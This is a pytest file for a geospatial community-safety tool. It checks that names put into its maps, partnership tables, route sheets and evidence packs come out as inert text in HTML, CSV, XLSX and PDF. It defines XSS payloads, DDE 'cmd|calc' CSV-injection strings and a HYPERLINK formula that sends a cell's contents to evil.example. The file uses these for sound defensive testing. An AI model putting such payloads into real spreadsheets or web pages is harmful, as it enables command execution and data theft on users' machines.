"""Text from inputs through every output: markup stays text in HTML (checked in headless chromium,
listening for dialogs) and formulas stay text in CSV and XLSX (OWASP CSV injection).

The payloads go in where inputs put text: unit, area, place, ward and street names, partner layer
names and their features' names, walkabout stop and hub names, partnership-table measure labels,
area names and partner categories, and an evidence pack's area name.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from pathlib import Path

import geopandas as gpd
import numpy as np
import pandas as pd
import pytest
import shapely

import _synthetic
from _browser import chromium
from _serve import HOVER_JS
from geo_csp import boundaries, maps, routes, schema
from geo_csp._escape import FORMULA_START

PAYLOADS = [
    "<script>alert('script')</script>",
    "<img src=x onerror=alert('img')>",
    '=HYPERLINK("http://evil.example/?"&A1,"Click me")',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
]
MARKUP = PAYLOADS[:2]


def _payload(i: int) -> str:
    return PAYLOADS[i % len(PAYLOADS)]


@pytest.fixture(scope="module")
def browser() -> Iterator[object]:
    with chromium() as b:
        yield b


def _open(browser: object, path: Path, *, hover: bool = False) -> tuple[list[str], str, int]:
    """Open ``path``; the dialogs it raised, its visible text (tooltips opened by hovering every
    interactive shape when ``hover``) and how many elements carry an ``onerror`` handler."""
    page = browser.new_page()  # type: ignore[attr-defined]
    dialogs: list[str] = []

    def on_dialog(dialog: object) -> None:
        dialogs.append(dialog.message)  # type: ignore[attr-defined]
        dialog.dismiss()  # type: ignore[attr-defined]

    page.on("dialog", on_dialog)
    page.goto(path.as_uri())
    page.wait_for_load_state("load")
    text = page.inner_text("body")
    if hover:
        tips = page.evaluate(HOVER_JS)
        text += "\n" + tips
    page.wait_for_timeout(300)  # an onerror handler fires once the broken image fails to load
    handlers = page.evaluate("() => document.querySelectorAll('[onerror], [onload]:not(body)').length")
    page.close()
    return dialogs, text, handlers


def _assert_html_safe(browser: object, path: Path, *, hover: bool = False, shown: list[str] = MARKUP) -> None:
    source = path.read_text(encoding="utf-8")
    for bad in MARKUP:
        assert bad not in source, f"{path.name} holds {bad!r} unescaped"
    dialogs, text, handlers = _open(browser, path, hover=hover)
    assert dialogs == [], f"{path.name} ran script from the data: {dialogs}"
    assert handlers == 0
    for good in shown:  # the markup is shown to the reader as text, not lost or double-escaped
        assert good in text, f"{path.name} does not show {good!r} as text"


def _assert_cells_inert(values: list[object], where: str) -> None:
    texts = [v for v in values if isinstance(v, str)]
    assert texts, where
    for v in texts:
        assert not v.startswith(FORMULA_START) or v.lstrip("+-").replace(".", "", 1).replace(",", "").isdigit(), (
            f"{where}: cell {v!r} would run as a formula"
        )
    for p in PAYLOADS[2:]:
        if any(p in v for v in texts):
            assert f"'{p}" in texts or any(v.startswith(f"'{p}") for v in texts), f"{where}: {p!r} not neutralised"


# --------------------------------------------------------------------------------------------------
# Maps (folium): tooltips, layer control, labels, legend, route stops
# --------------------------------------------------------------------------------------------------
def test_map_shows_markup_from_the_data_as_text(browser: object, tmp_path: Path) -> None:
    wards = boundaries.load_wards()
    units = wards.rename(columns={"ward_code": "unit_id"}).assign(
        n=range(len(wards)), pattern="Persistent Hot Spot", name=[_payload(i) for i in range(len(wards))]
    )
    centre = wards.to_crs(27700).geometry.union_all().representative_point()
    areas = gpd.GeoDataFrame(
        {schema.AREA_ID: ["HS-0001"], schema.AREA_NAME: [MARKUP[1]]}, geometry=[centre.buffer(300)], crs=27700
    )
    hubs = gpd.GeoDataFrame({"name": [MARKUP[0]]}, geometry=[centre], crs=27700)
    ops = gpd.GeoDataFrame({"name": [MARKUP[1]], "type": [PAYLOADS[2]]}, geometry=[centre.buffer(200)], crs=27700)
    places = gpd.GeoDataFrame({"name": [MARKUP[0]]}, geometry=[centre.buffer(50)], crs=27700)
    m = maps.hotspot_map(
        units,
        areas=areas,
        selected_area="HS-0001",
        places=places,
        layers={"hubs <img src=x onerror=alert('layer')>": hubs, "operations": ops},
    )
    stops = pd.DataFrame({"order": [1], "name": [MARKUP[1]], "easting": [centre.x], "northing": [centre.y]})
    maps.add_route(m, stops, hub=hubs)
    path = tmp_path / "map.html"
    m.save(str(path))
    _assert_html_safe(browser, path, hover=True, shown=[*MARKUP, "hubs <img src=x onerror=alert('layer')>"])


# --------------------------------------------------------------------------------------------------
# The partnership table: HTML, CSV and XLSX
# --------------------------------------------------------------------------------------------------
def _hostile_table(*, public: bool = False) -> object:
    from geo_csp.table import Measure, TableParams, partnership_table

    areas = gpd.GeoDataFrame(
        {"area_code": ["A", "B"], "area_name": [MARKUP[1], PAYLOADS[3]], "population": [2000, 4000]},
        geometry=[shapely.box(380_000, 410_000, 381_000, 411_000), shapely.box(381_000, 410_000, 382_000, 411_000)],
        crs="EPSG:27700",
    )
    months = [f"2023-{m:02d}" for m in range(1, 7)]
    parts = []
    for month in months:
        for k, category in enumerate(PAYLOADS):
            frame = _synthetic.incidents(np.full(3 + k, 380_500.0), np.full(3 + k, 410_500.0), month, category)
            parts.append(frame.assign(**{schema.SOURCE: "council_asb", schema.OBJECT_OF_SEARCH: None}))
    measures = [
        Measure(key=f"m{k}", label=p, sources=("council_asb",), crime_types=(p,)) for k, p in enumerate(PAYLOADS)
    ]
    return partnership_table(
        pd.concat(parts, ignore_index=True), areas, params=TableParams(area="A", public=public), measures=measures
    )


def test_table_outputs_keep_markup_and_formulas_inert(browser: object, tmp_path: Path) -> None:
    from openpyxl import load_workbook

    from geo_csp.table import write_table_csv, write_table_html, write_table_xlsx

    t = _hostile_table()
    _assert_html_safe(browser, write_table_html(t, tmp_path / "t.html"))
    rows = list(csv.reader(io.StringIO(write_table_csv(t, tmp_path / "t.csv").read_text(encoding="utf-8"))))
    cells = [c for r in rows if r and not r[0].startswith("#") for c in r]
    _assert_cells_inert(cells, "table CSV")
    assert "'=cmd|' /C calc'!A0" in cells and "'@SUM(1+9)*cmd|' /C calc'!A0" in cells
    ws = load_workbook(write_table_xlsx(t, tmp_path / "t.xlsx")).active
    xlsx = list(ws.iter_rows())
    assert not [c.coordinate for r in xlsx for c in r if c.data_type == "f"], "a cell is stored as a formula"
    values = [c.value for r in xlsx for c in r]
    _assert_cells_inert(values, "table XLSX")
    assert f"'{PAYLOADS[2]}" in values


# --------------------------------------------------------------------------------------------------
# Route sheets and evidence packs
# --------------------------------------------------------------------------------------------------
def test_route_sheet_shows_markup_as_text(browser: object, tmp_path: Path) -> None:
    stops = gpd.GeoDataFrame(
        {"priority": [5.0, 3.0], "name": MARKUP, "purpose": [PAYLOADS[2], MARKUP[0]]},
        geometry=shapely.points([(300.0, 0.0), (0.0, 300.0)]),
        crs=27700,
    )
    plan = routes.plan_walkabout(stops, start=(0.0, 0.0), budget_min=60, dwell_min=5, start_name=MARKUP[1])
    path = tmp_path / "sheet.html"
    path.write_text(plan.to_html(title=f"Walkabout from {MARKUP[0]}"), encoding="utf-8")
    _assert_html_safe(browser, path)


def test_evidence_pack_shows_markup_as_text_and_csvs_are_inert(browser: object, demo_borough, tmp_path: Path) -> None:  # noqa: ANN001
    from geo_csp.evidence import EvidenceParams, build_evidence, write_evidence

    ward = boundaries.load_wards().to_crs(27700).geometry.iloc[0]
    pack = build_evidence(demo_borough.store_dir, EvidenceParams(area_polygon_wkt=ward.wkt, area_label=MARKUP[1]))
    written = write_evidence(pack, tmp_path / "pack")
    _assert_html_safe(browser, written["report.html"], shown=[MARKUP[1]])
    for name, path in written.items():
        if name.endswith(".csv"):
            values = [c for r in csv.reader(io.StringIO(path.read_text(encoding="utf-8"))) for c in r]
            assert not [
                v for v in values if v.startswith(FORMULA_START) and not v.lstrip("+-").replace(".", "", 1).isdigit()
            ]
    from pypdfium2 import PdfDocument

    pdf = PdfDocument(str(written["report.pdf"]))
    text = "".join(pdf[i].get_textpage().get_text_range() for i in range(len(pdf)))
    assert "onerror=alert('img')" in text.replace("\r", "").replace("\n", "")  # printed as text
